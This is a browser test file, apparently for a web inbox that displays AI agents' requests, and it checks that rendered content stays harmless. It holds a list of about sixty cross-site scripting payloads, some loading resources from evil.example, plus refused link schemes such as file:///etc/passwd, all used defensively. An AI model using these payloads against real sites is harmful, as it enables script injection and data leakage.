// What agents show: rendered by the server, harmless in the page, and leading out of it only into the browser.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, afterEach, before, beforeEach, describe, it } from "node:test";
import { picture, question, review } from "./asks.js";
import { Loopback, until } from "./loopback.js";
import { launch, openWindow } from "./window.js";

let browser, loopback, agent, page;

before(async () => (browser = await launch()));
after(() => browser.close());

beforeEach(async () => {
  loopback = await Loopback.start();
  agent = await loopback.agent();
});

afterEach(async () => {
  const problems = page?.problems ?? [];
  await page?.context().close();
  page = undefined;
  await loopback.stop();
  assert.deepEqual(problems, []);
});

async function open(id) {
  page = await openWindow(browser, loopback, { path: `/asks/${id}` });
  await page.getByRole("article").waitFor();
}

it("markdown, code and a diff are rendered, with numbers, signs and colours", async () => {
  const ask = await agent.ask("request_review", review);
  await open(ask.id);
  await page.getByRole("heading", { name: "Why" }).waitFor();
  const added = page.locator(".lb-add", { hasText: "filter" });
  const sign = added.locator(".lb-src");
  assert.equal(await sign.evaluate((node) => getComputedStyle(node, "::before").content), '"+"');
  assert.notEqual(await added.evaluate((node) => getComputedStyle(node).backgroundColor), "rgba(0, 0, 0, 0)");
  const keyword = page.locator(".lb-code .hl-kw").first();
  assert.notEqual(
    await keyword.evaluate((node) => getComputedStyle(node).color),
    await page.locator("article").evaluate((node) => getComputedStyle(node).color),
  );
});

it("selecting a diff's lines copies the code alone", async () => {
  const ask = await agent.ask("request_review", review);
  await open(ask.id);
  // What was never near the screen has no text to select yet.
  const hunk = page.locator(".lb-hunk").first();
  await hunk.scrollIntoViewIfNeeded();
  const text = await until(async () => {
    const text = await hunk.innerText();
    return text.includes("connection.execute_batch(step.sql)?;") && text;
  });
  assert.doesNotMatch(text, /^[+-]/m);
});

it("a link opens a page of its own, says before where it leads, and the inbox stays", async () => {
  const ask = await agent.ask("ask_question", question);
  await open(ask.id);
  const link = page.getByRole("link", { name: "the notes" });
  assert.equal(await link.getAttribute("target"), "_blank");
  assert.match(await link.getAttribute("rel"), /noopener/);
  await link.focus();
  await page.getByText("Opens example.com in your browser").waitFor();
  const address = page.url();
  await page.context().route("https://example.com/**", (route) => route.fulfill({ body: "out there" }));
  const [out] = await Promise.all([page.context().waitForEvent("page"), link.click()]);
  assert.equal(new URL(out.url()).host, "example.com");
  assert.equal(page.url(), address);
});

describe("however a link is pressed", () => {
  const presses = [
    ["by the middle button", { button: "middle" }],
    ["with Ctrl held", { modifiers: ["Control"] }],
    ["plainly", {}],
  ];
  let outside;

  // Not a route of the browser's: a page that opens behind this one is on its way before it could be kept.
  beforeEach(async () => {
    const visits = [];
    const server = createServer((request, response) => {
      if (request.url !== "/favicon.ico") visits.push({ path: request.url, referer: request.headers.referer });
      response.end("out there");
    });
    await once(server.listen(0, "127.0.0.1"), "listening");
    outside = { address: `http://127.0.0.1:${server.address().port}/notes`, visits, server };
  });
  afterEach(() => outside.server.close());

  for (const [how, press] of presses) {
    it(`${how}, one that may be followed leads out, told before, and the inbox stays`, async () => {
      const { host } = new URL(outside.address);
      const ask = await agent.ask("ask_question", { ...question, context: `See [the notes](${outside.address}).` });
      await open(ask.id);
      const address = page.url();
      const link = page.getByRole("link", { name: "the notes" });
      await link.hover();
      await page.getByText(`Opens ${host} in your browser`).waitFor();
      const [out] = await Promise.all([page.context().waitForEvent("page"), link.click(press)]);
      const visit = await until(() => outside.visits[0]);
      assert.deepEqual(visit, { path: "/notes", referer: undefined });
      await out.getByText("out there").waitFor();
      assert.equal(await out.evaluate(() => window.opener), null);
      assert.equal(page.url(), address);
      await page.getByRole("article").waitFor();
    });

    it(`${how}, one of a kind that is refused is words and does nothing`, async () => {
      const refused = ["javascript:window.hurt=1", "data:text/html,<p>x</p>", "file:///etc/passwd", "vscode://file/x", "loopback://x"];
      const context = refused.map((address, index) => `[refused ${index}](<${address}>)`).join("\n\n");
      const ask = await agent.ask("ask_question", { ...question, context });
      await open(ask.id);
      const pages = [];
      page.context().on("page", (one) => pages.push(one.url()));
      const address = page.url();
      for (const index of refused.keys()) {
        const words = page.getByText(`refused ${index}`).first();
        await words.hover();
        await words.click(press);
        assert.equal(await words.evaluate((node) => node.closest("a")), null);
      }
      assert.equal(await page.getByText(/^Opens /).count(), 0);
      await page.waitForTimeout(200);
      assert.deepEqual(pages, []);
      assert.equal(page.url(), address);
      assert.equal(await page.evaluate(() => window.hurt), undefined);
    });
  }
});

it("a host in letters of its own, or in letters that look like another's, is told as the network writes it", async () => {
  const hosts = [
    ["bücher.example", "xn--bcher-kva.example"],
    // With a Cyrillic а.
    ["аpple.com", "xn--pple-43d.com"],
  ];
  const context = hosts.map(([host], index) => `[shop ${index}](https://${host}/) and https://${host}`).join("\n\n");
  const ask = await agent.ask("ask_question", { ...question, context });
  await open(ask.id);
  for (const [index, [host, network]] of hosts.entries()) {
    const told = `${host} (${network})`;
    const link = page.getByRole("link", { name: `shop ${index}` });
    await link.hover();
    await page.getByText(`Opens ${told} in your browser`).waitFor();
    // Beside each link, for whoever does not point at it.
    assert.equal(await page.locator("article").getByText(`(${told})`).count(), 2);
  }
});

it("a picture that was uploaded is shown from the page's memory", async () => {
  const ticket = await agent.call("request_upload", { contentType: "image/png" });
  const png = picture(2, 2);
  const stored = await fetch(ticket.uploadUrl, { method: "PUT", headers: { "Content-Type": "image/png" }, body: png });
  assert.equal(stored.status, 201, await stored.text());
  const ask = await agent.ask("request_review", {
    title: "The new mark",
    content: [{ type: "image", uploadId: ticket.uploadId, caption: "At 2 px" }],
  });
  await open(ask.id);
  const shown = page.getByRole("img", { name: "At 2 px" });
  await shown.waitFor();
  assert.match(await shown.getAttribute("src"), /^blob:/);
  assert.equal(await shown.evaluate((image) => image.naturalWidth), 2);
});

const PAYLOADS = [
  "<script>window.hurt = 1</script>",
  "<ScRiPt >window.hurt = 1</sCrIpT>",
  "<<script>window.hurt = 1;//<</script>",
  "<scr<script>ipt>window.hurt = 1</scr</script>ipt>",
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.hurt = 1">',
  "<img src=x onerror=window.hurt=1//",
  "<img/src=x/onerror=window.hurt=1>",
  '<img src="x` `<script>window.hurt = 1</script>"` `>',
  '<svg onload="window.hurt = 1"></svg>',
  '<svg><script>window.hurt = 1</script></svg>',
  '<svg><animate onbegin="window.hurt = 1" attributeName="x" dur="1s"></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.hurt=1</script></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=1&gt;">',
  '<math href="javascript:window.hurt=1">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=window.hurt=1>">',
  '<template><script>window.hurt = 1</script></template>',
  '<a href="javascript:window.hurt=1">x</a>',
  '<a href="java&#x09;script:window.hurt=1">x</a>',
  '<a href=" &#14; javascript:window.hurt=1">x</a>',
  '<a href="data:text/html,<script>opener.hurt=1</script>">x</a>',
  "[x](javascript:window.hurt=1)",
  "[x](JaVaScRiPt:window.hurt=1)",
  "[x](javascript&colon;window.hurt=1)",
  "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaHVydD0xPC9zY3JpcHQ+)",
  "[x](vbscript:msgbox(1))",
  "[x]: javascript:window.hurt=1\n\n[x]",
  "<javascript:window.hurt=1>",
  "![x](javascript:window.hurt=1)",
  "![x](https://evil.example/pixel.png)",
  '![x](x "\" onerror=\"window.hurt=1")',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<iframe src="javascript:parent.hurt=1"></iframe>',
  '<object data="data:text/html,<script>parent.hurt=1</script>"></object>',
  '<embed src="javascript:window.hurt=1">',
  '<details open ontoggle="window.hurt = 1"><summary>x</summary></details>',
  '<input autofocus onfocus="window.hurt = 1">',
  '<button autofocus onfocus="window.hurt = 1" onclick="window.hurt = 1">x</button>',
  '<form action="javascript:window.hurt=1"><button>x</button></form>',
  '<video><source onerror="window.hurt = 1"></video>',
  '<audio src=x onerror="window.hurt = 1"></audio>',
  '<body onload="window.hurt = 1" onpageshow="window.hurt = 1">',
  '<marquee onstart="window.hurt = 1">x</marquee>',
  '<div style="position:fixed;inset:0;z-index:99;background:url(https://evil.example/y)">over</div>',
  "<style>body { display: none } @import 'https://evil.example/z.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<p class="dock button primary" id="app" name="loopback">x</p>',
  "`{{constructor.constructor('window.hurt=1')()}}`",
  "{@html '<img src=x onerror=window.hurt=1>'}",
  "</textarea></code></pre></title><script>window.hurt = 1</script>",
  '"><img src=x onerror=window.hurt=1>',
  "' onmouseover='window.hurt=1' x='",
  "\u202e<img src=x onerror=window.hurt=1>\u2066",
  "```mermaid\nflowchart LR\n  A[\"<img src=x onerror=parent.hurt=1>\"] --> B\n  click A href \"javascript:parent.hurt=1\"\n```",
  '```html"><script>window.hurt=1</script>\n<script>window.hurt = 1</script>\n```',
  "| <img src=x onerror=window.hurt=1> |\n| --- |\n| <script>window.hurt = 1</script> |",
  "[^1]\n\n[^1]: <img src=x onerror=window.hurt=1>",
  "> [!NOTE]\n> <img src=x onerror=window.hurt=1>",
];

/** What may not be among what an agent wrote. Our own tools are put there too: they are told by where they stand. */
const OURS = ".tools, .lb-bar, .lb-file-tools, .lb-files, .diagram, .lb-noted-mark, .line-tools";
const NEVER =
  "script,style,link,iframe,form,input,button,base,meta,object,embed,svg,math,video,audio,marquee,template,[style]:not(.lb-chunk),[onerror],[onload],[onclick],[onfocus],[ontoggle],[srcdoc],[autofocus]";

/** One of every kind of block, with a payload in each of its texts. */
const blocksOf = (line, uploadId) => [
  { type: "markdown", text: line },
  { type: "code", code: line, filename: line, language: line },
  { type: "diff", diff: `--- a/${line}\n+++ b/${line}\n@@ -1 +1 @@ ${line}\n-${line}\n+${line} x\n`, filename: line },
  { type: "image", uploadId, caption: line },
];

describe("sixty payloads run nothing, load nothing and overlay nothing", () => {
  const all = PAYLOADS.join("\n\n");
  // A name, a title or a label has one line.
  const lines = PAYLOADS.filter((one) => !one.includes("\n") && one.length <= 200);
  let outside;

  beforeEach(async () => {
    outside = [];
    page = await openWindow(browser, loopback);
    page.on("request", (request) => {
      if (!request.url().startsWith(loopback.base) && !request.url().startsWith("blob:")) outside.push(request.url());
    });
  });

  afterEach(() => assert.deepEqual(outside, []));

  async function look(path) {
    await page.goto(loopback.base + path);
    await page.locator(path === "/" ? "nav a" : "article").first().waitFor();
    if (path !== "/") await page.locator(".content").first().waitFor();
    await harmless(path);
  }

  async function harmless(path) {
    await page.waitForTimeout(100);
    assert.equal(await page.evaluate(() => window.hurt), undefined);
    assert.equal(new URL(page.url()).pathname, path);
    const found = await page.locator(".content").evaluateAll(
      (nodes, [never, ours]) =>
        nodes.flatMap((node) => [...node.querySelectorAll(never)].filter((one) => !one.closest(ours)).map((one) => one.outerHTML)),
      [NEVER, OURS],
    );
    assert.deepEqual(found, []);
  }

  async function stored() {
    const ticket = await agent.call("request_upload", { contentType: "image/png" });
    await fetch(ticket.uploadUrl, { method: "PUT", headers: { "Content-Type": "image/png" }, body: picture(2, 2) });
    return ticket.uploadId;
  }

  const reply = (ask, body) => loopback.person(`/asks/${ask.id}/reply`, { method: "POST", body });

  it("in the texts, labels and answers of questions, and in what a person asks back", async () => {
    assert.ok(PAYLOADS.length >= 60 && lines.length >= 40, `${PAYLOADS.length}, ${lines.length}`);
    const short = lines.filter((line) => line.length <= 80);
    for (let at = 0; at < short.length; at += 6) {
      const labels = [...short.slice(at, at + 6), "none"].slice(0, 6);
      const options = labels.map((label) => ({ label, description: all.slice(0, 20_000) }));
      const ask = await agent.ask("ask_question", { question: all, context: all, options });
      await look(`/asks/${ask.id}`);
      if (at > 0) continue;
      await reply(ask, { outcome: "follow_up", question: all });
      await ask.reply;
      void agent.call("answer_follow_up", { askId: ask.id, answer: all, content: [{ type: "markdown", text: all }] }).catch(() => {});
      await until(async () => (await loopback.person(`/asks/${ask.id}`)).body.thread.length === 2);
      await reply(ask, { outcome: "answered", selected: [labels[0]], text: all });
      await look(`/asks/${ask.id}`);
    }
  });

  it("in code, diffs, file names, languages and captions, and in what a person sends back", async () => {
    const uploadId = await stored();
    const content = [{ type: "diff", diff: all }, { type: "code", code: all }, ...lines.flatMap((line) => blocksOf(line, uploadId))];
    const ask = await agent.ask("request_review", { title: "Everything", summary: all, content });
    await look(`/asks/${ask.id}`);
    // What only comes up near the screen must have come up.
    await page.locator(".pane").evaluate((pane) => pane.scrollTo(0, pane.scrollHeight));
    await page.locator("figcaption").last().waitFor();
    await harmless(`/asks/${ask.id}`);
    await reply(ask, { outcome: "changes_requested", feedback: all });
    await ask.reply;
    const next = await agent.ask("request_review", { title: "Everything", content: content.slice(1, 30), revises: ask.id });
    await look(`/asks/${next.id}`);
  });

  it("in the titles and points of a briefing, and in the answers to it", async () => {
    const uploadId = await stored();
    const sections = lines.slice(0, 50).map((line) => ({
      title: line,
      points: [{ title: line, detail: line, content: blocksOf(line, uploadId) }],
    }));
    const ask = await agent.ask("present_briefing", { title: "Everything", summary: all, sections });
    await look(`/asks/${ask.id}`);
    for (const point of await page.locator("[data-point]").all()) await point.click();
    await harmless(`/asks/${ask.id}`);
    await reply(ask, { outcome: "responded", points: [{ point: "1", text: all }] });
    await ask.reply;
    await look(`/asks/${ask.id}`);
  });

  it("in the names of projects and programs, in titles in the list, and in the reason for taking an ask back", async () => {
    const asks = [];
    for (const line of lines) {
      const own = await loopback.agent(line, line);
      const ask = await own.ask("request_review", { title: line, content: [{ type: "markdown", text: "x" }], project: line });
      asks.push({ ask, own, line });
    }
    await look("/");
    await look(`/asks/${asks[0].ask.id}`);
    for (const { ask, own, line } of asks) {
      await own.call("withdraw_ask", { askId: ask.id, reason: line });
      await page.evaluate((id) => dispatchEvent(new CustomEvent("loopback:open", { detail: { ask: id } })), ask.id);
      await page.getByText("Taken back by the agent").waitFor();
      await page.waitForFunction((id) => location.pathname === `/asks/${id}`, ask.id);
    }
    await harmless(`/asks/${asks.at(-1).ask.id}`);
  });
});
